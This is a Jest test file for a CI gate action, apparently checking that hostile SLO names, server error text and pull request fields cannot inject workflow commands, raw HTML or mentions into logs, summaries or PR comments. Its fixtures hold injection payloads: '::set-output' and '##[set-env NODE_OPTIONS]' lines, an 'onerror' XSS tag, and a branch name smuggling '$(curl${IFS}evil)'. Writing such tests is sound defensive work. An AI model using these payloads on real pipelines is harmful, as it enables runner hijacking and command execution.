// Untrusted text cannot steer the runner or the rendered markdown. Three sources are hostile at
// once, through the committed action bundle: the SLO file's names (a PR can edit files), the
// server's error text (a proxy or a compromised server), and the pull request itself (title,
// body, branch name, labels). None may add a workflow command to the log (`::set-output`,
// `::add-mask`, the legacy `##[...]` read anywhere in a plain line), hide text in or break the
// job summary or a PR comment (`<!--`, an unbalanced `|`, raw HTML), or ping anyone (@everyone).
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'

import { testPrometheus } from '../harness/prometheus.js'
import { fakeServer, node24, pullRequestEvent, runAction, type FakeServer } from '../harness/run-bundle.js'

const HOSTILE = '<!-- hidden --> @everyone ::set-output name=decision::allow ##[set-env name=NODE_OPTIONS]--require=/tmp/x <img src=x onerror=alert(1)> | a | b |'

let prometheusUrl: string
let end: number
let hostileServer: FakeServer
let github: FakeServer
const githubBodies: string[] = []

beforeAll(async () => {
  ;({ url: prometheusUrl, end } = testPrometheus())
  node24()
  hostileServer = await fakeServer((_req, res) => {
    res.writeHead(503, { 'content-type': 'text/plain' })
    res.end(`overloaded\n${HOSTILE}\n::error::forged`)
  })
  github = await fakeServer((req, res) => {
    const chunks: Buffer[] = []
    req.on('data', (chunk: Buffer) => chunks.push(chunk))
    req.on('end', () => {
      githubBodies.push(Buffer.concat(chunks).toString('utf8'))
      res.writeHead(req.method === 'POST' ? 201 : 200, { 'content-type': 'application/json' })
      res.end(req.method === 'GET' ? '[]' : JSON.stringify({ id: 1 }))
    })
  })
}, 300_000)

afterAll(async () => {
  await Promise.all([hostileServer, github].filter(Boolean).map((s) => s.close()))
})

function sloFile(service: string, name: string): string {
  return [
    'apiVersion: error-budget-gate/v1',
    `service: ${JSON.stringify(service)}`,
    'slos:',
    `  - name: ${JSON.stringify(name)}`,
    '    objective: 99.9',
    '    description: ' + JSON.stringify(HOSTILE),
    '    sli:',
    '      counters:',
    '        errors: http_requests_total{service="healthy",code="500"}',
    '        total: http_requests_total{service="healthy"}',
    ''
  ].join('\n')
}

/** Workflow commands the gate itself may write. Anything else in the log is an injection. */
const OWN_COMMANDS = new Set(['add-mask', 'error', 'warning', 'notice', 'debug', 'group', 'endgroup'])

describe.each([
  ['hostile SLO names, a healthy Prometheus', () => prometheusUrl, 'allow'],
  ['hostile SLO names and server error text', () => hostileServer.url, 'error']
] as const)('%s, a hostile pull request', (_name, url, decision) => {
  test('nothing steers the runner, the summary or the PR comment', async () => {
    githubBodies.length = 0
    const result = await runAction({
      inputs: {
        'prometheus-url': url(),
        config: 'slos/slo.yaml',
        'evaluation-time': String(end),
        retries: '0',
        'policy-source': 'workspace',
        comment: 'always'
      },
      files: { 'slos/slo.yaml': sloFile(`pay|ments ${HOSTILE}`, `@everyone\n::error::x ${HOSTILE}`) },
      event: pullRequestEvent({ title: HOSTILE, body: `${HOSTILE}\n::add-mask::x`, headRef: 'feat/$(curl${IFS}evil)`id`', labels: [HOSTILE, 'hotfix'] }),
      eventName: 'pull_request',
      apiUrl: github.url
    })
    expect(result.outputs.decision).toBe(decision)

    // The log: only the gate's own commands, each a whole line; no legacy `##[` in plain lines.
    for (const line of result.stdout.split('\n')) {
      const command = /^\s*::([a-z-]+)/.exec(line)?.[1]
      if (command !== undefined) expect(OWN_COMMANDS.has(command) ? 'own command' : line).toBe('own command')
      else expect(line.includes('##[') ? line : 'clean').toBe('clean')
    }
    expect(result.commands.filter((c) => c.command === 'add-mask').map((c) => c.message)).not.toContain('x')
    // Outputs are the gate's, not the text's: `decision` was not overwritten.
    expect(result.outputFile.match(/^decision<</gm)).toHaveLength(1)

    // Markdown (job summary, PR comment): no live HTML comment or tag from the text (escaped as
    // `\<` or `&#60;` it is shown, not obeyed), no mention (`@` is followed by a zero-width space).
    const bodies = githubBodies.map((body, i) => [`GitHub API body ${i}`, Object.values(JSON.parse(body || '{}') as Record<string, unknown>).join('\n')] as const)
    // comment: always: the PR comment was posted, so its body is checked too.
    expect(bodies.some(([, text]) => text.includes('Error budget gate'))).toBe(true)
    for (const [where, markdown] of [['summary', result.summary] as const, ...bodies]) {
      expect(`${where}: ${/(?<!\\)<!-- hidden/.test(markdown) ? 'raw <!--' : 'ok'}`).toBe(`${where}: ok`)
      expect(`${where}: ${/(?<!\\)<img src=x/.test(markdown) ? 'raw <img>' : 'ok'}`).toBe(`${where}: ok`)
      expect(`${where}: ${/@everyone/.test(markdown) ? 'a live @everyone' : 'ok'}`).toBe(`${where}: ok`)
    }
    // Every table row of the summary keeps its 7 columns: a `|` in a name cannot add cells.
    const head = result.summary.split('\n').find((line) => line.startsWith('| decision |'))!
    const cells = (line: string) => line.replace(/\\\|/g, '').split('|').length
    for (const row of result.summary.split('\n').filter((line) => /^\| \S+ (allow|warn|freeze|error) \|/.test(line))) expect(cells(row)).toBe(cells(head))
  })
})
